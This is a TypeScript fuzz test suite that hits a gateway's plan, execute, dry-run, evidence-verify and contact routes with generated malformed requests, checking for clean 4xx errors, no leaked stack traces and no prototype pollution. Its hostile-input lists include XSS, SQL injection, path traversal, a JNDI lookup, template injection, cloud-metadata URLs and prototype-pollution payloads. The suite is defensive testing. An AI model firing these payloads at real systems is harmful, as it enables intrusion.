import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { RunningSystem } from '../../apps/gateway/src/start-all';
import { authHeaders } from '../support/auth';
import { freePort } from '../support/net';
import { startTestSystem } from '../support/system';

/**
 * Seed 003 fuzzing: thousands of generated malformed and hostile requests
 * against the routes that take a user's input (plan, execute, intent, dry-run
 * and the public contact form). Whatever arrives, the gateway answers with a
 * 4xx (or a 2xx for what happens to be valid) in the API's error shape: never
 * a 5xx, never a stack frame or a file path, and the process's prototypes stay
 * clean (the gateway runs in this process, so pollution would show here).
 *
 * Runs per route are fixed (RUNS, ~4,400 requests in all, about 30–50 s on the
 * 2-core CI machine); FUZZ_SEED=<n> replays a reported failure. Rate limits are
 * set out of reach so the run measures validation, not throttling.
 */
const RUNS = { plan: 1000, execute: 600, intent: 700, fromIdea: 150, dryRun: 900, contact: 750, evidenceVerify: 300 } as const;
const SEED = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : undefined;

const STACK_FRAME = /\n\s+at |^\s{4}at /m;
const FILE_PATH = /\/(work|home|usr|app|opt|tmp)\/[\w.-]+\/|node_modules|\.(ts|js):\d+/;

const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'isAdmin'];
const HOSTILE_STRINGS = [
  '<script>alert(1)</script>',
  "'; DROP TABLE plans; --",
  '../../../../etc/passwd',
  '\u0000',
  '\ud800',
  '\u202eevil',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🧨',
  'a\r\nSet-Cookie: x=1',
  '%00%0d%0a',
  '${jndi:ldap://x.example/a}',
  '{{constructor.constructor("return process")()}}',
  'http://169.254.169.254/latest/meta-data/',
  'plan_000000000000',
  'acme.example',
];
const NUMBERISH = ['1', '-1', '0', '1e309', 'NaN', 'Infinity', '0x1f', '  42  ', '9007199254740993', '', 'true', 'false', 'null', 'undefined', '[]', '{}'];
const RAW_BAD_JSON = ['{', '}', '{"a":1,}', "{'a':1}", '[1,2', 'nul', '{"a":01}', '\ufeff{}', '{"a":"\\x"}', 'NaN', '"just a string"', '42', 'true', 'null', '{"a":1}{"b":2}', '{"a":\u0000}', '\u0000'];
const PROTO_TEXTS = [
  '{"__proto__":{"polluted":"yes"},"business_name":"Acme","business_type":"consulting"}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"vision":"a bakery in Berlin","__proto__":{"polluted":"yes"}}',
  '{"graph_id":"g","business_intent_id":"i","nodes":[{"node_id":"a","node_type":"website.generate","executor_params":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}}]}',
  '{"name":"A","email":"a@example.com","message":"m","__proto__":{"polluted":"yes"}}',
];
const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/zip',
  'application/xml',
  'application/vnd.api+json',
  'application/octet-stream',
];

const leaf: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: fc.constant(null) },
  { weight: 2, arbitrary: fc.constantFrom(...NUMBERISH) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, -0, 1e308, -1e-308) },
  { weight: 1, arbitrary: fc.integer({ min: 5_000, max: 120_000 }).map((n) => 'x'.repeat(n)) },
);
const anyKey = fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...PROTO_KEYS) }, { weight: 3, arbitrary: fc.string({ maxLength: 12 }) }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) });
const { value: hostileValue } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof({ maxDepth: 3, depthIdentifier: 'hostile' }, leaf, fc.array(tie('value'), { maxLength: 4 }), fc.dictionary(anyKey, tie('value'), { maxKeys: 5 })),
}));

/** `depth` nested arrays or objects as JSON text (built as text: no recursion on this side). */
const deepNesting = fc.tuple(fc.integer({ min: 64, max: 20_000 }), fc.boolean()).map(([depth, arrays]) => (arrays ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`));

interface FuzzRequest {
  text: string | undefined;
  contentType: string | undefined;
}

/**
 * Bodies for a route whose valid shape is `base`: a valid body with fields
 * replaced, added (unknown, prototype keys) or removed; a nested object
 * (`nested` picks one) mutated the same way; any hostile JSON value; deep
 * nesting; text that is not JSON; prototype-pollution payloads. Mostly sent as
 * JSON, sometimes with another content type or none.
 */
function bodies(base: Record<string, unknown>, nested: Array<(base: Record<string, unknown>, patch: Record<string, unknown>) => Record<string, unknown>> = []): fc.Arbitrary<FuzzRequest> {
  const fields = Object.keys(base);
  const patch = fc.dictionary(fc.oneof(fc.constantFrom(...fields), anyKey), hostileValue, { minKeys: 1, maxKeys: 4 });
  const json = (value: unknown) => JSON.stringify(value) ?? 'null';
  const text = fc.oneof(
    { weight: 5, arbitrary: patch.map((p) => json({ ...base, ...p })) },
    { weight: 2, arbitrary: fc.constantFrom(...fields).map((field) => json(Object.fromEntries(Object.entries(base).filter(([key]) => key !== field)))) },
    ...(nested.length ? [{ weight: 4, arbitrary: fc.tuple(fc.constantFrom(...nested), patch).map(([mutate, p]) => json(mutate(base, p))) }] : []),
    { weight: 3, arbitrary: hostileValue.map(json) },
    { weight: 1, arbitrary: deepNesting },
    { weight: 2, arbitrary: fc.constantFrom(...RAW_BAD_JSON) },
    { weight: 1, arbitrary: fc.tuple(fc.constant(json(base)), fc.nat()).map(([full, cut]) => full.slice(0, cut % full.length)) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
    { weight: 1, arbitrary: fc.constantFrom(...PROTO_TEXTS) },
  );
  const contentType = fc.oneof({ weight: 8, arbitrary: fc.constant('application/json') }, { weight: 2, arbitrary: fc.constantFrom(...CONTENT_TYPES) }, { weight: 1, arbitrary: fc.constant(undefined) });
  return fc.oneof({ weight: 20, arbitrary: fc.record({ text, contentType }) }, { weight: 1, arbitrary: fc.record({ text: fc.constant(undefined), contentType }) });
}

const queryValue = fc.oneof(
  fc.stringMatching(/^plan_[0-9a-f]{12}$/),
  fc.constantFrom('true', 'false', 'TRUE', '1', '0', '', 'yes', 'null', ...HOSTILE_STRINGS),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
/** Execute's query: its three parameters (sometimes repeated, sometimes missing), unknown ones, and raw hand-made strings. */
const executeQuery = fc.oneof(
  { weight: 6, arbitrary: fc
    .tuple(
      fc.array(fc.tuple(fc.oneof(fc.constantFrom('plan_id', 'confirm', 'dry_run_unavailable'), anyKey), queryValue), { maxLength: 6 }),
      fc.boolean(),
    )
    .map(([pairs, confirmed]) => {
      const params = new URLSearchParams();
      if (confirmed) params.append('confirm', 'true');
      for (const [key, value] of pairs) params.append(key, value);
      return `?${params.toString()}`;
    }) },
  { weight: 1, arbitrary: fc.constantFrom('?plan_id=%', '?%=%', '?plan_id[]=x&confirm=true', '?plan_id[a]=b&confirm=true', '?confirm=true&plan_id=plan_000000000000&plan_id=plan_111111111111', `?${'a=1&'.repeat(2000)}`, '?plan_id=%F0%9F%A7%A8&confirm=true', '?confirm=true&dry_run_unavailable=%00') },
);

describe('fuzz: hostile input never yields a 5xx or a stack trace (gateway + workers, real Redis and PostgreSQL)', () => {
  let system: RunningSystem;
  let sent = 0;
  const statuses = new Map<number, number>();
  const site = 'fuzz-contact.example';

  async function send(method: string, path: string, request: FuzzRequest, headers: Record<string, string>): Promise<void> {
    sent += 1;
    const response = await fetch(`${system.url}${path}`, {
      method,
      headers: { ...headers, ...(request.contentType ? { 'content-type': request.contentType } : {}) },
      body: request.text,
    });
    const text = await response.text();
    statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
    const where = `${method} ${path.slice(0, 200)} (${request.contentType ?? 'no content type'}) body ${JSON.stringify((request.text ?? '').slice(0, 300))}`;
    if (response.status >= 500) throw new Error(`${where} → ${response.status}: ${text.slice(0, 500)}`);
    if (STACK_FRAME.test(text) || FILE_PATH.test(text)) throw new Error(`${where} → a stack frame or file path in the answer: ${text.slice(0, 500)}`);
    if (response.status >= 400) {
      // Every refusal is the API's error shape.
      const body = JSON.parse(text);
      if (body.statusCode !== response.status || typeof body.error !== 'string' || typeof body.message !== 'string') throw new Error(`${where} → not the error shape: ${text.slice(0, 300)}`);
    }
  }

  const check = (runs: number, arbitrary: fc.Arbitrary<unknown>, predicate: (value: any) => Promise<void>) =>
    fc.assert(
      fc.asyncProperty(arbitrary, async (value) => {
        await predicate(value);
      }),
      { numRuns: runs, seed: SEED, endOnFailure: true },
    );

  beforeAll(async () => {
    system = await startTestSystem('fuzz', {
      // Deploying the contact form's site checks it on the gateway's port.
      PORT: String(await freePort()),
      SITE_SCREENSHOT: 'off',
      RATE_LIMIT_PER_KEY: '100000000',
      RATE_LIMIT_PER_ADDRESS: '100000000',
      RATE_LIMIT_SENSITIVE: '100000000',
      RATE_LIMIT_CONTACT: '100000000',
      // Valid plans that the fuzzer happens to generate are answered 202 "planning" rather than waited for.
      PLAN_WAIT_MS: '2000',
    });
    const deployed = await fetch(`${system.url}/api/pipeline/execute`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...authHeaders(system, 'operator') },
      body: JSON.stringify({
        graph_id: 'fuzz-contact-site',
        business_intent_id: 'intent_fuzz_contact',
        nodes: [
          { node_id: 'generate', node_type: 'website.generate', executor_params: { business_name: 'Fuzz GmbH', domain: site, pages: ['home', 'contact'], primary_color: '#1e40af' } },
          { node_id: 'deploy', node_type: 'website.deploy', depends_on: ['generate'], executor_params: { domain: site } },
        ],
      }),
    });
    expect(await deployed.json()).toMatchObject({ status: 'completed' });
  });
  afterAll(async () => {
    await system?.stop();
    // eslint-disable-next-line no-console
    console.info(`fuzz: ${sent} requests; answers by status: ${JSON.stringify(Object.fromEntries([...statuses].sort(([a], [b]) => a - b)))}`);
  });
  afterEach(() => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it(`POST /api/factory/plan: ${RUNS.plan} bodies`, async () => {
    const briefing = JSON.parse(readFileSync(join(__dirname, '../../templates/briefings/acme-quick-start.json'), 'utf8'));
    const inWebsite = (base: Record<string, unknown>, patch: Record<string, unknown>) => ({ ...base, website_config: { ...(base.website_config as object), ...patch } });
    const inErp = (base: Record<string, unknown>, patch: Record<string, unknown>) => ({ ...base, erp_config: { ...(base.erp_config as object), ...patch } });
    const inIntegration = (base: Record<string, unknown>, patch: Record<string, unknown>) => ({ ...base, integrations: [{ name: 'leads', source: 'website', target: 'odoo', type: 'contact_form', ...patch }] });
    const headers = authHeaders(system, 'operator');
    await check(RUNS.plan, bodies({ ...briefing, dry_run: true }, [inWebsite, inErp, inIntegration]), (request) => send('POST', '/api/factory/plan', request, headers));
  });

  it(`POST /api/factory/execute with fuzzed query strings: ${RUNS.execute} requests`, async () => {
    const headers = authHeaders(system, 'operator');
    await check(RUNS.execute, fc.tuple(executeQuery, bodies({ dry_run_unavailable: true })), ([query, request]) => send('POST', `/api/factory/execute${query}`, request, headers));
  });

  it(`POST /api/pipeline/intent/resolve: ${RUNS.intent} bodies, POST /api/v1/plans/from-idea: ${RUNS.fromIdea}`, async () => {
    const headers = authHeaders(system, 'operator');
    const intent = { vision: 'A bakery in Berlin selling bread online', target_audience: 'families', region: 'DE', monetization_type: 'TRANSACTION', compliance_sensitivity: 'LOW' };
    await check(RUNS.intent, bodies(intent), (request) => send('POST', '/api/pipeline/intent/resolve', request, headers));
    await check(RUNS.fromIdea, bodies(intent), (request) => send('POST', '/api/v1/plans/from-idea', request, headers));
  });

  it(`POST /api/pipeline/dry-run: ${RUNS.dryRun} bodies`, async () => {
    const headers = authHeaders(system, 'operator');
    const node = { node_id: 'generate', node_type: 'website.generate', depends_on: [], executor_params: { business_name: 'Fuzz GmbH', domain: 'fuzz-dry.example', primary_color: '#1e40af' }, critical: true };
    const graph = { graph_id: 'fuzz-graph', business_intent_id: 'intent_fuzz', nodes: [node], dry_run: true, auto_rollback: true, stop_on_first_error: true };
    const inNode = (base: Record<string, unknown>, patch: Record<string, unknown>) => ({ ...base, nodes: [{ ...node, ...patch }] });
    const inParams = (base: Record<string, unknown>, patch: Record<string, unknown>) => ({ ...base, nodes: [{ ...node, executor_params: { ...node.executor_params, ...patch } }] });
    const manyNodes = (base: Record<string, unknown>, patch: Record<string, unknown>) => ({ ...base, nodes: Object.keys(patch).map((key, i) => ({ ...node, node_id: `n${i}`, depends_on: [key] })) });
    // Deep nesting where the schema lets any JSON through (executor_params), so it reaches hashing, storage and the step.
    const deepParams = deepNesting.map((nesting): FuzzRequest => ({
      text: JSON.stringify({ ...graph, nodes: [{ ...node, executor_params: { ...node.executor_params, deep: '@' } }] }).replace('"@"', nesting),
      contentType: 'application/json',
    }));
    await check(RUNS.dryRun, fc.oneof({ weight: 9, arbitrary: bodies(graph, [inNode, inNode, inParams, manyNodes]) }, { weight: 1, arbitrary: deepParams }), (request) =>
      send('POST', '/api/pipeline/dry-run', request, headers),
    );
  });

  it(`POST /api/pipeline/evidence/verify (JSON packs, where a deep-nesting 500 was found): ${RUNS.evidenceVerify} bodies`, async () => {
    const headers = authHeaders(system, 'operator');
    const pack = {
      pack_id: 'pack_fuzz',
      generated_at: '2026-01-01T00:00:00.000Z',
      business_intent_id: 'intent_fuzz',
      graph_id: 'fuzz-graph',
      execution_result: { execution_order: ['a'], completed_nodes: ['a'], failed_nodes: [] },
      summary: { status: 'completed' },
      artifacts: [],
      content_hash: '0'.repeat(64),
      is_dry_run: true,
    };
    const inResult = (base: Record<string, unknown>, patch: Record<string, unknown>) => ({ ...base, execution_result: { ...(base.execution_result as object), ...patch } });
    const inSummary = (base: Record<string, unknown>, patch: Record<string, unknown>) => ({ ...base, summary: patch });
    await check(RUNS.evidenceVerify, bodies(pack, [inResult, inSummary]), (request) => send('POST', '/api/pipeline/evidence/verify', request, headers));
  });

  it(`POST /api/v1/sites/{domain}/contact: ${RUNS.contact} bodies (JSON, form posts) and site ids`, async () => {
    const submission = { name: 'Ada Lovelace', email: 'ada@example.com', message: 'Please call me back', phone: '+49 30 1234567', company: 'Engines' };
    const siteIds = fc.oneof({ weight: 8, arbitrary: fc.constant(site) }, { weight: 1, arbitrary: fc.constantFrom(site.toUpperCase(), `${site}.`, 'localhost', '..', '%2e%2e', 'a'.repeat(300)) }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map(encodeURIComponent) });
    const formPost = fc
      .dictionary(fc.oneof(fc.constantFrom(...Object.keys(submission)), anyKey), fc.oneof(fc.string({ maxLength: 50 }), fc.constantFrom(...HOSTILE_STRINGS)), { maxKeys: 7 })
      .map((fields): FuzzRequest => ({ text: new URLSearchParams(fields as Record<string, string>).toString(), contentType: 'application/x-www-form-urlencoded' }));
    const bigForm = fc.integer({ min: 60_000, max: 200_000 }).map((n): FuzzRequest => ({ text: `name=${'x'.repeat(n)}`, contentType: 'application/x-www-form-urlencoded' }));
    const request = fc.oneof({ weight: 6, arbitrary: bodies(submission) }, { weight: 3, arbitrary: formPost }, { weight: 1, arbitrary: bigForm });
    await check(RUNS.contact, fc.tuple(siteIds, request), ([siteId, body]) => send('POST', `/api/v1/sites/${siteId}/contact`, body, {}));
  });
});
